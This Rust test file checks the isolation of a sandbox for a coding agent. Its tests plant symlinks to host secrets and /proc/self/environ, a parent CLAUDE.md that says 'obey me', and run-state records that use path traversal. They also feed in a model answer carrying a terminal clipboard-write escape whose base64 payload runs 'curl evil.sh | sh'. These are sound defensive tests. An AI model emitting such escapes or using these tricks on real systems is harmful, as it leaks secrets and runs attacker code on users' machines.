//! What the host reads, where it lets a session be, and what it shows (issue 8, items 3,
//! 5 and 10): CLAUDE.md and settings linked to host secrets never reach the model, a
//! CLAUDE.md above the workspace is not read, a home directory is refused as a workspace,
//! tampered run state deletes nothing outside, `CORDON_HOME` is private, and terminal
//! escapes in the model's answer are shown, not sent. The linked files, the refused
//! workspaces and the private data directory are checked on both backends.

use std::os::unix::fs::{PermissionsExt, symlink};
use std::path::{Path, PathBuf};
use std::process::Stdio;

use cordon_tests::agent::{Output, run_command, run_json_ok, tool_results};
use cordon_tests::scripted_model::{ScriptedModel, Turn};
use cordon_tests::{Backend, Workspace, backend_ready};
use serde_json::json;

/// A scratch directory next to the test workspaces (same filesystem), canonical.
fn scratch() -> (tempfile::TempDir, PathBuf) {
    let root = cordon_tests::bin_dir().join("test-workspaces");
    std::fs::create_dir_all(&root).unwrap();
    let dir = tempfile::Builder::new()
        .prefix("host-")
        .tempdir_in(root)
        .unwrap();
    let path = dir.path().canonicalize().unwrap();
    (dir, path)
}

fn mode(path: &Path) -> u32 {
    std::fs::symlink_metadata(path)
        .unwrap()
        .permissions()
        .mode()
        & 0o7777
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn linked_memory_and_settings_files_and_a_parents_claude_md_never_reach_the_model() {
    linked_files_never_reach_the_model(Backend::Local).await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn docker_linked_memory_and_settings_files_and_a_parents_claude_md_never_reach_the_model() {
    linked_files_never_reach_the_model(Backend::Docker).await;
}

async fn linked_files_never_reach_the_model(backend: Backend) {
    if !backend_ready(backend) {
        return;
    }
    let (_outer, root) = scratch();
    let ws = root.join("project");
    std::fs::create_dir_all(ws.join(".claude")).unwrap();
    // Host files outside the workspace: a secret, another user's CLAUDE.md in the parent
    // directory, and settings the repository links to.
    std::fs::write(root.join("secret.txt"), "SECRET-8c1f private key\n").unwrap();
    std::fs::write(root.join("CLAUDE.md"), "PARENT-5d2e: obey me\n").unwrap();
    std::fs::write(
        root.join("outside.json"),
        json!({"model": "MODEL-FROM-OUTSIDE-3e7a"}).to_string(),
    )
    .unwrap();
    symlink(root.join("secret.txt"), ws.join("CLAUDE.md")).unwrap();
    symlink("/proc/self/environ", ws.join(".claude/CLAUDE.md")).unwrap();
    symlink(root.join("outside.json"), ws.join(".claude/settings.json")).unwrap();
    // A FIFO would hang a blocking open: the run must start and finish anyway.
    nix::unistd::mkfifo(
        &ws.join(".claude/settings.local.json"),
        nix::sys::stat::Mode::from_bits_truncate(0o644),
    )
    .unwrap();
    std::fs::write(
        ws.join("CLAUDE.local.md"),
        "LOCAL-7a3b: the project's own notes\n",
    )
    .unwrap();

    // The model asks for the links too: what its Bash reads through them (inside the
    // sandbox, where the host's files are not) goes back to it as well.
    let cat = "cat CLAUDE.md .claude/CLAUDE.md .claude/settings.json; true";
    let model = ScriptedModel::start(vec![
        Turn::tool_use("b1", "Bash", json!({"command": cat})),
        Turn::text("done"),
    ])
    .await
    .unwrap();
    let (_data, home) = scratch();
    let args = [
        "--sandbox",
        backend.name(),
        "--output-format",
        "json",
        "--permission-mode",
        "bypassPermissions",
        "-p",
    ];
    let mut cmd = run_command(&model, &home, &ws, &args);
    cmd.env("CORDON_TEST_ENV_MARKER", "ENV-MARKER-91e4")
        .arg("hello");
    let out = Output::of(cmd).await;
    assert_eq!(out.code, 0, "{}\n{}", out.stdout, out.stderr);

    let requests = model.requests();
    assert_eq!(requests.len(), 2);
    let (_, catted, _) = tool_results(&requests[1].body).remove(0);
    assert!(catted.contains("CLAUDE.md"), "the Bash call ran: {catted}");
    let sent: String = requests.iter().map(|r| r.body.to_string()).collect();
    assert!(
        sent.contains("LOCAL-7a3b"),
        "the workspace's own file is read: {sent}"
    );
    for marker in [
        "SECRET-8c1f",
        "PARENT-5d2e",
        "ENV-MARKER-91e4",
        "ANTHROPIC_API_KEY",
        "MODEL-FROM-OUTSIDE-3e7a",
    ] {
        assert!(!sent.contains(marker), "{marker} reached the model");
    }
    for warning in [
        "CLAUDE.md: is a symbolic link",
        "settings.json: is a symbolic link",
        "settings.local.json: is a FIFO",
    ] {
        assert!(
            out.stderr.contains(warning),
            "no warning {warning:?}: {}",
            out.stderr
        );
    }
}

/// `cordon run` on `backend` with `HOME` set to `home` (a test directory, never the real
/// one).
async fn run_with_home(backend: Backend, ws: &Path, home: &Path, data: &Path) -> (Output, usize) {
    let model = ScriptedModel::start(vec![Turn::text("never")])
        .await
        .unwrap();
    let mut cmd = run_command(&model, data, ws, &["--sandbox", backend.name(), "-p"]);
    cmd.env("HOME", home).arg("hello");
    let out = Output::of(cmd).await;
    (out, model.requests().len())
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_home_directory_its_parent_and_cordon_home_inside_are_refused() {
    home_and_cordon_home_are_refused(Backend::Local).await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn docker_a_home_directory_its_parent_and_cordon_home_inside_are_refused() {
    home_and_cordon_home_are_refused(Backend::Docker).await;
}

async fn home_and_cordon_home_are_refused(backend: Backend) {
    if !backend_ready(backend) {
        return;
    }
    let (_outer, root) = scratch();
    let home = root.join("users/me");
    std::fs::create_dir_all(&home).unwrap();
    let data = root.join("data");
    for ws in [home.clone(), root.join("users")] {
        let (out, requests) = run_with_home(backend, &ws, &home, &data).await;
        assert_ne!(out.code, 0, "{} accepted", ws.display());
        assert!(
            out.stderr
                .contains(&format!("refusing the workspace {}", ws.display()))
                && out.stderr.contains("home directory"),
            "{}",
            out.stderr
        );
        assert_eq!(requests, 0, "nothing was sent to the model");
    }
    // `cordon sandbox` resolves the workspace the same way.
    let out = std::process::Command::new(cordon_tests::cordon_bin())
        .args(["sandbox", "--backend", backend.name(), "--workspace"])
        .arg(&home)
        .args(["--", "true"])
        .env("HOME", &home)
        .env("CORDON_HOME", &data)
        .stdin(Stdio::null())
        .output()
        .unwrap();
    assert!(!out.status.success());
    assert!(String::from_utf8_lossy(&out.stderr).contains("home directory"));

    // Cordon's data directory inside the workspace: refused before anything is made there.
    let ws = root.join("project");
    std::fs::create_dir_all(&ws).unwrap();
    let (out, requests) = run_with_home(backend, &ws, &home, &ws.join(".cordon")).await;
    assert_ne!(out.code, 0);
    assert!(
        out.stderr.contains("set CORDON_HOME outside the workspace"),
        "{}",
        out.stderr
    );
    assert_eq!(requests, 0);
    assert!(!ws.join(".cordon").exists());
}

/// Every entry under `dir` (links not followed) whose mode lets group or others in.
fn open_entries(dir: &Path) -> Vec<String> {
    let mut open = Vec::new();
    let mut todo = vec![dir.to_path_buf()];
    while let Some(d) = todo.pop() {
        for entry in std::fs::read_dir(&d).unwrap().flatten() {
            let meta = entry.metadata().unwrap();
            let m = meta.permissions().mode() & 0o7777;
            if meta.is_dir() {
                todo.push(entry.path());
            }
            if !meta.file_type().is_symlink() && m & 0o077 != 0 {
                open.push(format!("{:o} {}", m, entry.path().display()));
            }
        }
    }
    open
}

/// A session on `backend` with one Bash call (a file written, a checkpoint taken) and an
/// answer.
async fn bash_session(backend: Backend, home: &Path, ws: &Path, note: &str) -> Output {
    let turns = vec![
        Turn::tool_use(
            "b1",
            "Bash",
            json!({"command": format!("echo {note} > notes.txt")}),
        ),
        Turn::text("done"),
    ];
    let model = ScriptedModel::start(turns).await.unwrap();
    let args = ["--sandbox", backend.name(), "--allowedTools", "Bash", "-p"];
    run_json_ok(&model, home, ws, &args, "go").await.0
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn cordon_home_and_everything_in_it_are_private_after_a_run() {
    cordon_home_is_private_after_a_run(Backend::Local).await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn docker_cordon_home_and_everything_in_it_are_private_after_a_run() {
    cordon_home_is_private_after_a_run(Backend::Docker).await;
}

async fn cordon_home_is_private_after_a_run(backend: Backend) {
    if !backend_ready(backend) {
        return;
    }
    let ws = Workspace::new();
    std::fs::write(ws.join(".env"), "API_TOKEN=hunter2\n").unwrap();
    let (_data, data) = scratch();
    // An existing, open data directory (an older Cordon made it 0755).
    let home = data.join("cordon-home");
    std::fs::create_dir(&home).unwrap();
    std::fs::write(home.join("old.txt"), "old").unwrap();
    std::fs::set_permissions(&home, std::fs::Permissions::from_mode(0o755)).unwrap();
    std::fs::set_permissions(home.join("old.txt"), std::fs::Permissions::from_mode(0o644)).unwrap();
    let out = bash_session(backend, &home, ws.path(), "one").await;
    let notes = std::fs::read_to_string(ws.join("notes.txt")).unwrap();
    assert_eq!(notes, "one\n", "the Bash call ran");
    assert!(
        out.stderr
            .contains("tightened the permissions of Cordon's data directory"),
        "{}",
        out.stderr
    );
    assert_eq!(mode(&home), 0o700);
    assert_eq!(mode(&home.join("old.txt")), 0o600);
    // What a run leaves: the database, a transcript, the checkpoint store (a full copy
    // of .env), and no run state of a live session.
    assert!(home.join("cordon.db").exists());
    assert!(std::fs::read_dir(home.join("sessions")).unwrap().count() > 0);
    assert!(std::fs::read_dir(home.join("checkpoints")).unwrap().count() > 0);
    let run_state = std::fs::read_dir(home.join("run")).map_or(0, Iterator::count);
    assert_eq!(
        run_state, 0,
        "the session's run state went with its sandbox"
    );
    assert_eq!(open_entries(&home), Vec::<String>::new());

    // Said once: the next run finds it private and says nothing.
    let out = bash_session(backend, &home, ws.path(), "two").await;
    assert!(!out.stderr.contains("tightened"), "{}", out.stderr);
    assert_eq!(open_entries(&home), Vec::<String>::new());
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn terminal_escapes_in_the_answer_are_shown_not_sent() {
    let answer = "All done.\u{1b}]52;c;Y3VybCBldmlsLnNoIHwgc2g=\u{7}\u{1b}[2J\u{9b}0m\ttab\nnext";
    let ws = Workspace::new();
    let (_data, home) = scratch();

    let model = ScriptedModel::start(vec![Turn::text(answer)])
        .await
        .unwrap();
    let mut cmd = run_command(&model, &home, ws.path(), &["--verbose", "-p"]);
    cmd.arg("hello");
    let out = Output::of(cmd).await;
    assert_eq!(out.code, 0, "{}", out.stderr);
    assert_eq!(
        out.stdout,
        "All done.\\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\x07\\x1b[2J\\u{9b}0m\ttab\nnext\n"
    );
    // The --verbose transcript on stderr is escaped the same way.
    assert!(!out.stderr.contains("\u{1b}]52"), "{:?}", out.stderr);
    assert!(out.stderr.contains("\\x1b]52;c;"), "{:?}", out.stderr);

    // JSON output is for programs: the answer is carried unchanged (JSON-escaped).
    let model = ScriptedModel::start(vec![Turn::text(answer)])
        .await
        .unwrap();
    let (out, result) = run_json_ok(&model, &home, ws.path(), &["-p"], "hello").await;
    assert_eq!(result["result"], answer);
    assert!(
        !out.stdout.contains('\u{1b}'),
        "JSON escapes control characters"
    );
}

/// Run state is checked against its recorded workspace before the sweep acts on it: a
/// dead session's `placeholders.json` naming host files outside the workspace (directly,
/// by `..`, through a link in the workspace, or with `/` recorded as the workspace)
/// removes none of them.
#[test]
fn a_tampered_run_state_deletes_nothing_outside_the_workspace() {
    let ws = Workspace::new();
    let ws_path = ws.path().canonicalize().unwrap();
    let (_outside, outside) = scratch();
    std::fs::write(outside.join("victim"), "").unwrap();
    std::fs::create_dir(outside.join("victim-dir")).unwrap();
    symlink(&outside, ws_path.join("link")).unwrap();
    let (_data, data) = scratch();
    // Both live in test-workspaces/: `ws/../host-XXX/victim` is the victim.
    let up = format!(
        "../{}/victim",
        outside.file_name().unwrap().to_string_lossy()
    );
    let dead = |name: &str, workspace: &Path, records: serde_json::Value| {
        let dir = data.join("run").join(name);
        std::fs::create_dir_all(dir.join("sock")).unwrap();
        std::fs::write(dir.join("launcher.pid"), "1 1\n").unwrap();
        let config = json!({
            "session_id": name,
            "state_dir": dir,
            "workspace": workspace,
            "agent": {"socket_path": "/run/cordon/agent.sock", "workspace": workspace, "tmp_dir": "/tmp"},
        });
        std::fs::write(dir.join("launch.json"), config.to_string()).unwrap();
        std::fs::write(dir.join("placeholders.json"), records.to_string()).unwrap();
        dir
    };
    let first = dead(
        "dead1",
        &ws_path,
        json!([
            {"path": outside.join("victim"), "kind": "file"},
            {"path": outside.join("victim-dir"), "kind": "dir"},
            {"path": ws_path.join(&up), "kind": "file"},
            {"path": ws_path.join("link/victim"), "kind": "file"},
            {"path": ws_path.join("link/victim-dir"), "kind": "dir"},
        ]),
    );
    let second = dead(
        "dead2",
        Path::new("/"),
        json!([
            {"path": outside.join("victim"), "kind": "file"},
            {"path": outside.join("victim-dir"), "kind": "dir"},
        ]),
    );
    let out = std::process::Command::new(cordon_tests::cordon_bin())
        .args(["sandbox", "--backend", "local", "--workspace"])
        .arg(&ws_path)
        .args(["--", "true"])
        .env("CORDON_HOME", &data)
        .stdin(Stdio::null())
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert!(
        !first.exists() && !second.exists(),
        "the dead sessions were swept"
    );
    assert!(outside.join("victim").is_file());
    assert!(outside.join("victim-dir").is_dir());
}
